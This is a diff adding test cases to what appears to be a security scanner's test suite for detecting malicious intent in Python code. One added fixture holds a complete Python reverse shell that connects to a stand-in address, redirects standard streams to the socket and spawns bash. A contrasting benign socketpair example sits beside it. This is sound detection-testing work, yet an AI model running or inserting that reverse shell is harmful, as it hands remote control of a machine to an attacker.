@@ -675,3 +675,38 @@ def test_host_identity_sent_to_a_configured_base_url_is_not_flagged() -> None:
                 requests.post(url, json={"name": socket.gethostname()})
     """
     assert "intent.exfiltration" not in rules(scan({"demo/agent.py": src}))
+
+
+# -- reverse shells: socket, descriptors and shell in one place ------------------------------------
+
+
+def test_socket_dup2_and_pty_shell_in_one_function_is_a_reverse_shell() -> None:
+    src = """
+        import os, pty, socket
+
+        def connect_back():
+            s = socket.socket()
+            s.connect(("198.51.100.7", 9001))
+            for fd in (0, 1, 2):
+                os.dup2(s.fileno(), fd)
+            pty.spawn("/bin/bash")
+
+        connect_back()
+    """
+    assert scan({"demo/__init__.py": src}).verdict == "malicious"
+
+
+def test_a_supervisor_redirecting_stdio_to_a_socketpair_is_not_a_reverse_shell() -> None:
+    src = """
+        import os, socket, subprocess
+
+        def start_child(argv):
+            parent, child = socket.socketpair()
+            proc = subprocess.Popen(argv, stdin=child, stdout=child)
+            return parent, proc
+
+        def reopen_std_io(sock):
+            for fd in (0, 1, 2):
+                os.dup2(sock.fileno(), fd)
+    """
+    assert "intent.reverse-shell" not in rules(scan({"demo/supervisor.py": src}))
